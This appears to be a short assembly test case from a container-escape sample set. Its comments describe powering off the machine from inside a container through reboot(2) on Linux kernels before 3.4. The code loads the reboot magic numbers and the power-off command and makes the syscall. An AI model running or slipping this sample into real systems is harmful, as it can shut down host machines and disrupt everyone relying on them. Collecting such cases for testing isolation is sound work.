# The machine is switched off from within.
# case: reboot(2) in a container before Linux 3.4 (checked against the process namespace since)
# plant: PLANT_POWER

.include "escape.inc"

.equ outside, nothing
.equ meanwhile, nothing
.equ after, nothing

.rodata
.balign 8
code: .dword 42
.text
inside:
    save ra
    li   a0, 0xfee1dead
    li   a1, 672274793
    li   a2, 0x4321fedc
    la   a3, code
    system reboot
    li   a0, 0
    restore ra
    ret
